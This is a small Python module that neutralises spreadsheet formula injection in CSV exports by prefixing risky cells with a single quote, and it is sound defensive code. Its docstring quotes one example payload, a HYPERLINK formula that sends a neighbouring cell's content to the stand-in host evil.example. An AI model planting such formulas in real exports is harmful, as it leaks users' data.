"""CSV the product writes: cells a spreadsheet cannot run.

A cell starting with = + - @ (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is opened as a formula by
Excel, LibreOffice and Google Sheets: a headline such as
=HYPERLINK("https://evil.example/?leak="&A2,"Open") would send the next
cell's content away when clicked. As OWASP advises, such a cell is written
with a leading single quote, which spreadsheets show as text.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value) -> str:
    """`value` as a cell that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer whose every cell goes through inert()."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row):
        return self._writer.writerow([inert(cell) for cell in row])
